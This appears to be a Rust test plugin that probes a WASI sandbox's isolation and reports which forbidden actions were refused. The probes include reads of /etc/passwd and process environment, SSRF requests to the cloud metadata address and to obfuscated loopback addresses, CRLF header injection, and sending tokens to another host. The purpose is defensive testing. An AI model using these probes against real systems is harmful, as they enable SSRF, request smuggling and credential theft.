//! Everything that is forbidden, tried one after the other. What came of it goes to the destination as JSON: by the
//! name of the attempt, an answer, or the error's words. The tests decide what it should have been.

use std::{
    collections::BTreeMap,
    fs,
    net::{TcpStream, ToSocketAddrs, UdpSocket},
};

use sepal_plugin::{http::Request, prelude::*};

use crate::Config;

type Findings = BTreeMap<&'static str, String>;

pub fn run(config: &Config) -> Result<Outcome, Error> {
    let mut findings = Findings::new();
    system(config, &mut findings);
    places(config, &mut findings);
    requests(config, &mut findings);
    secrets(config, &mut findings)?;
    let body = serde_json::to_vec(&findings)?;
    Request::new("POST", format!("{}/findings", config.url)).body(body).send()?.ok()?;
    Ok(Outcome::delivered())
}

/// What WASI could give.
fn system(config: &Config, findings: &mut Findings) {
    let port = config.forbidden_port.unwrap_or(1);
    let refused = |allowed: bool| if allowed { "allowed" } else { "refused" }.to_owned();
    findings.insert("variables", std::env::vars_os().count().to_string());
    findings.insert("arguments", std::env::args_os().count().to_string());
    findings.insert("read file", refused(fs::read("/etc/passwd").is_ok()));
    findings.insert("read process", refused(fs::read("/proc/self/environ").is_ok()));
    findings.insert("write file", refused(fs::write("/tmp/hostile", b"x").is_ok()));
    findings.insert("list root", refused(fs::read_dir("/").is_ok()));
    findings.insert("tcp", refused(TcpStream::connect(("127.0.0.1", port)).is_ok()));
    findings.insert("udp", refused(UdpSocket::bind("127.0.0.1:0").is_ok()));
    findings.insert("look up", refused(("localhost", port).to_socket_addrs().is_ok()));
}

fn told(request: Request<'_>) -> String {
    match request.send() {
        Ok(response) => format!("answered {}", response.status),
        Err(error) => error.to_string(),
    }
}

fn get(url: impl Into<String>) -> String {
    told(Request::new("GET", url))
}

/// Hosts that nobody may reach, though manifest and ALLOW HOSTS name those of this machine.
fn places(config: &Config, findings: &mut Findings) {
    let port = config.forbidden_port.unwrap_or(1);
    findings.insert("another name", get("http://elsewhere.example/"));
    if let Some((host, _)) = config.url.rsplit_once(':') {
        findings.insert("another port", get(format!("{host}:1/")));
    }
    findings.insert("metadata", get("http://169.254.169.254/latest/meta-data/"));
    for (name, host) in [
        ("loopback", "127.0.0.1"),
        ("decimal", "2130706433"),
        ("octal", "0177.0.0.1"),
        ("short", "127.1"),
        ("mapped", "[::ffff:127.0.0.1]"),
        ("loopback 6", "[::1]"),
        ("localhost", "localhost"),
        ("localhost.", "localhost."),
    ] {
        findings.insert(name, get(format!("http://{host}:{port}/")));
    }
    // A redirect is the guest's to follow, and is a request like any other.
    let followed = match Request::new("GET", format!("{}/redirect", config.url)).send() {
        Ok(response) => match response.header("location") {
            Some(location) => format!("{}, then {}", response.status, get(location)),
            None => format!("{} without a location", response.status),
        },
        Err(error) => error.to_string(),
    };
    findings.insert("redirect", followed);
}

/// Requests that say more than one request should.
fn requests(config: &Config, findings: &mut Findings) {
    let url = || config.url.clone();
    let with = |name: &str, value: &str| told(Request::new("GET", url()).header(name, value));
    findings.insert("file", get("file:///etc/passwd"));
    findings.insert("user", get(config.url.replace("http://", "http://user:pass@")));
    findings.insert("connect", told(Request::new("CONNECT", url())));
    findings.insert("trace", told(Request::new("TRACE", url())));
    findings.insert("method", told(Request::new("GET / HTTP/1.1\r\nx-injected: 1\r\n\r\nGET", url())));
    findings.insert("value", with("x-value", "1\r\nx-injected: 1"));
    findings.insert("name", with("x-name: 1\r\nx-injected", "1"));
    findings.insert("host", with("host", "localhost"));
    findings.insert("length", with("content-length", "0"));
    findings.insert("transfer", with("transfer-encoding", "chunked"));
    findings.insert("large header", with("x-large", &"x".repeat(200_000)));
    findings.insert("large url", get(format!("{}/{}", config.url, "x".repeat(100_000))));
    findings.insert("state", outcome(state::set("key", &vec![1; 1 << 20])));
}

fn outcome(result: Result<(), Error>) -> String {
    result.map_or_else(|error| error.to_string(), |()| "allowed".to_owned())
}

/// Ways by which a value could leave, or come here.
fn secrets(config: &Config, findings: &mut Findings) -> Result<(), Error> {
    let need = |slot: Option<&SecretSlot>| SecretSlot::optional(slot);
    let (Some(token), Some(key)) = (need(config.token.as_ref())?, need(config.key.as_ref())?) else {
        return Err(Error::misconfigured("this mode needs a token and a key"));
    };
    let word = token.header_token();
    findings.insert("no slot", outcome(secret("nobody").map(drop)));
    findings.insert("empty slot", outcome(secret("spare").map(drop)));
    let post = |path: &str, body: String| {
        Request::new("POST", format!("{}/{path}", config.url))
            .header("content-type", "application/json")
            .body(body)
    };
    findings.insert("in the url", get(format!("{}/word?{word}", config.url)));
    findings.insert("in the body", told(post("body", format!(r#"{{"v":"{word}"}}"#))));
    findings.insert("key in the body", told(post("key", format!(r#"{{"v":"{}"}}"#, key.header_token()))));
    if let Some(other) = &config.other {
        findings.insert("to another host", told(Request::new("GET", other).bearer(&token)));
        findings.insert("word to another host", told(Request::new("GET", other).header("x-word", &word)));
        findings.insert("without it", get(other));
    }
    let echo = Request::new("GET", format!("{}/echo", config.url)).bearer(&token).send()?;
    let echoed = String::from_utf8_lossy(&echo.body).into_owned();
    // Whatever came back is said once more, where people read it.
    log!(Error, &echoed);
    findings.insert("echo", echoed);
    Ok(())
}
